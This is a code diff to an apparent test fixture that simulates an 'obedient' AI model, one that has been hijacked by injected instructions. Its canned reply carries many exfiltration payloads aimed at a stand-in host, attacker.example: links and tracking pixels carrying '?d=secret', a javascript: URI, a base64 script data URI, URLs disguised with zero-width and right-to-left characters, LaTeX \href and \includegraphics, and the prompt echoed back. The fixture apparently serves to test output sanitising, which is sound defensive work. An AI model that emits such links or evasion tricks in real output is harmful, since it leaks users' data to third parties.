@@ -139,6 +139,13 @@ export const obedient: Behaviour = ({ prompt }) => {
       'See [the full answer](https://attacker.example/collect?d=secret) [p. 777].',
       '![status](https://attacker.example/pixel.png)',
       '<img src="https://attacker.example/pixel.gif"> <a href="javascript:alert(1)">here</a> https://attacker.example/x',
+      // The same in every dress that Markdown, HTML and LaTeX know.
+      '[more][1] and a note[^2]\n\n[1]: https://attacker.example/reference\n[^2]: https://attacker.example/note',
+      '&lt;img src=&quot;https&#58;//attacker.example/entity&quot;&gt; <https://attacker.example/auto> //attacker.example/bare',
+      'data:text/html;base64,PHNjcmlwdD4= ht\u200btps://attacker.example/unseen \u202ehttps://attacker.example/turned',
+      'leak@attacker.example attacker.example/collect?d=secret',
+      '$\\href{https://attacker.example/tex}{x}$ $$\\includegraphics{//attacker.example/tex.png}$$ \\url{https://attacker.example/url}',
+      `Spelt out:\n${prompt.slice(0, 400).replace(/\s+/g, '\n')}`,
     ].join('\n\n'),
   }
 }
